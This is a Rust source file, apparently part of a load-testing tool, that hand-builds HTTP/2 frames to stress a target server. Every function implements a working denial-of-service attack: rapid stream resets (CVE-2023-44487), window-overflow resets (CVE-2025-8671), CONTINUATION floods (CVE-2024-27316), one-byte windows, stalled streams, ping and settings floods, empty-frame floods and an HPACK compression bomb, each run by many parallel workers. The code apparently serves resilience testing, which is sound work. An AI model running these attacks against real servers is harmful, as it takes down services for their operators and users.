//! Attacks in HTTP/2 (RFC 9113), in frames made by hand: no library would send them.

use std::{io, time::Duration};

use tokio::time::sleep;
use visnyk_loadtest::http2_frames::*;

use crate::{
    AUDIENCE,
    target::{Target, Wire},
};

/// Streams that are reset as soon as they are asked for (CVE-2023-44487).
pub(crate) async fn rapid_resets(target: Target) {
    let act = |target: Target, _| async move {
        let mut wire = open(&target, &[]).await?;
        for at in 0.. {
            let mut frames = Vec::new();
            for stream in (at * 100..(at + 1) * 100).map(|n| 2 * n + 1) {
                frames.extend(headers(stream, "GET", &stream_path(), END_STREAM | END_HEADERS));
                frames.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                target.got("resets");
            }
            wire.send(&frames).await?;
            tokio::task::yield_now().await;
        }
        Ok(())
    };
    target.by_many(16, act).await;
}

/// Frames that make the hub reset streams itself (CVE-2025-8671): a window that overflows.
pub(crate) async fn made_resets(target: Target) {
    let act = |target: Target, _| async move {
        let mut wire = open(&target, &[]).await?;
        for at in 0.. {
            let mut frames = Vec::new();
            for stream in (at * 50..(at + 1) * 50).map(|n| 2 * n + 1) {
                frames.extend(headers(stream, "GET", &stream_path(), END_STREAM | END_HEADERS));
                frames.extend(frame(WINDOW_UPDATE, 0, stream, &0x7FFF_FFFF_u32.to_be_bytes()));
                target.got("resets by the hub");
            }
            wire.send(&frames).await?;
            tokio::task::yield_now().await;
        }
        Ok(())
    };
    target.by_many(16, act).await;
}

/// A head that goes on and on in CONTINUATION frames (CVE-2024-27316).
pub(crate) async fn continuations(target: Target) {
    let act = |target: Target, _| async move {
        let mut wire = open(&target, &[]).await?;
        wire.send(headers(1, "GET", "/healthz", END_STREAM)).await?;
        let field = [&[0x00, 1, b'x', 0x7F, 0xC1, 0x3D][..], &[b'a'; 8_000]].concat();
        loop {
            wire.send(frame(CONTINUATION, 0, 1, &field)).await?;
            target.got("frames");
        }
    };
    target.by_many(16, act).await;
}

/// Streams of the honest's channel with a window of one byte.
pub(crate) async fn tiny_windows(target: Target) {
    let act = |target: Target, _| async move {
        // SETTINGS_INITIAL_WINDOW_SIZE is 1.
        let mut wire = open(&target, &[0, 4, 0, 0, 0, 1]).await?;
        for stream in (0..100).map(|n| 2 * n + 1) {
            wire.send(headers(stream, "GET", &stream_path(), END_STREAM | END_HEADERS)).await?;
            target.got("streams");
        }
        loop {
            sleep(Duration::from_millis(20)).await;
            for stream in (0..100).map(|n| 2 * n + 1) {
                wire.send(frame(WINDOW_UPDATE, 0, stream, &1_u32.to_be_bytes())).await?;
            }
        }
    };
    target.by_many(10, act).await;
}

/// Streams of the honest's channel that are never read.
pub(crate) async fn stalled_streams(target: Target) {
    let act = |target: Target, _| async move {
        let mut wire = open(&target, &[]).await?;
        for stream in (0..100).map(|n| 2 * n + 1) {
            wire.send(headers(stream, "GET", &stream_path(), END_STREAM | END_HEADERS)).await?;
            target.got("streams");
        }
        target.hold(wire).await;
        Ok(())
    };
    target.by_many(20, act).await;
}

/// Pings and settings, each of which wants an answer, that are not read.
pub(crate) async fn pings_and_settings(target: Target) {
    let act = |target: Target, _| async move {
        let mut wire = open(&target, &[]).await?;
        let pings = frame(PING, 0, 0, &[0; 8]).repeat(500);
        let settings = frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]).repeat(500);
        loop {
            wire.send(&pings).await?;
            wire.send(&settings).await?;
            target.got("thousands");
        }
    };
    target.by_many(16, act).await;
}

/// Empty DATA frames and priorities, which move nothing.
pub(crate) async fn empty_frames(target: Target) {
    let act = |target: Target, _| async move {
        let mut wire = open(&target, &[]).await?;
        wire.send(headers(1, "POST", "/v1/channels/attacked/events", END_HEADERS)).await?;
        let empty = frame(DATA, 0, 1, &[]).repeat(500);
        let priorities = frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1]).repeat(500);
        loop {
            wire.send(&empty).await?;
            wire.send(&priorities).await?;
            target.got("thousands");
        }
    };
    target.by_many(16, act).await;
}

/// A head that is small as it is sent and large as it is read: one long field, put into the table
/// and named thousands of times.
pub(crate) async fn compression_bomb(target: Target) {
    let act = |target: Target, _| async move {
        let mut wire = open(&target, &[]).await?;
        for at in 0..1_000_u32 {
            let long = [&[0x40, 1, b'x', 0x7F, 0xA1, 0x1E][..], &[b'a'; 4_000]].concat();
            let mut block = [head("GET", "/healthz"), long].concat();
            // 62 is the first entry of the dynamic table.
            block.extend(std::iter::repeat_n(0xBE, 12_000));
            wire.send(frame(HEADERS, END_STREAM | END_HEADERS, 2 * at + 1, &block)).await?;
            target.got("bombs");
        }
        Ok(())
    };
    target.by_many(8, act).await;
}

/// A connection with its preface and these settings.
async fn open(target: &Target, settings: &[u8]) -> io::Result<Wire> {
    let mut wire = target.connect().await?;
    wire.send(PREFACE).await?;
    wire.send(frame(SETTINGS, 0, 0, settings)).await?;
    wire.drop_bytes(1).await?;
    target.got("connections");
    Ok(wire)
}

fn stream_path() -> String {
    format!("/v1/channels/{AUDIENCE}/events")
}

fn headers(stream: u32, method: &str, path: &str, flags: u8) -> Vec<u8> {
    frame(HEADERS, flags, stream, &head(method, path))
}
